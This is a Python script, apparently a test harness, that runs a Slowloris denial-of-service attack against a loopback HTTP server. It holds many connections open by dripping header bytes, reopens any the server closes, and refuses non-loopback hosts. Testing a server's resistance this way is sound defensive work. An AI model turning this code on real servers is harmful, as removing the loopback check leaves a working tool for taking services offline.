#!/usr/bin/env python3
"""Slowloris clients against a loopback HTTP server.

Opens N connections; each sends a request line, then one byte of a header every INTERVAL seconds,
never finishing its head. A connection the server closes (header timeout) is opened again, as an
attacker would. Runs for SECONDS, then prints one line and exits 0:

    slowloris: target=N opened=O reopened=R open_at_end=E bytes_sent=B

Only loopback hosts are accepted.
"""

import argparse
import ipaddress
import resource
import selectors
import socket
import sys
import time


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--clients", type=int, default=2000)
    ap.add_argument("--interval", type=float, default=3.0)
    ap.add_argument("--seconds", type=float, default=60.0)
    ap.add_argument("--ready-file", default="")
    a = ap.parse_args()
    for info in socket.getaddrinfo(a.host, None):
        if not ipaddress.ip_address(info[4][0]).is_loopback:
            sys.exit(f"slowloris: {a.host} is not a loopback address")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = a.clients + 256
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want if hard == resource.RLIM_INFINITY else min(want, hard), hard))

    sel = selectors.DefaultSelector()
    head = b"GET / HTTP/1.1\r\nHost: slow\r\n"
    drip = b"X-Slow-Header-" + b"a" * 4096
    conns = {}  # sock -> [next_send_time, offset]
    opened = reopened = sent = 0

    def open_one(now: float) -> bool:
        nonlocal opened, sent
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect_ex((a.host, a.port))
        except OSError:
            s.close()
            return False
        conns[s] = [now + a.interval * (len(conns) % 100) / 100.0, 0, False]
        sel.register(s, selectors.EVENT_READ)
        opened += 1
        return True

    start = time.monotonic()
    end = start + a.seconds
    for _ in range(a.clients):
        open_one(start)
    if a.ready_file:
        open(a.ready_file, "w").write(f"{len(conns)}\n")
    while True:
        now = time.monotonic()
        if now >= end:
            break
        for key, _ in sel.select(timeout=0.05):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:  # closed by the server: come back, as an attacker would
                sel.unregister(s)
                s.close()
                del conns[s]
                if open_one(now):
                    reopened += 1
        for s, st in list(conns.items()):
            if now < st[0]:
                continue
            try:
                if not st[2]:
                    s.send(head)
                    st[2] = True
                    sent += len(head)
                else:
                    s.send(drip[st[1] % len(drip):st[1] % len(drip) + 1])
                    st[1] += 1
                    sent += 1
            except OSError:
                pass
            st[0] = now + a.interval
    print(f"slowloris: target={a.clients} opened={opened} reopened={reopened} open_at_end={len(conns)} bytes_sent={sent}")


if __name__ == "__main__":
    main()
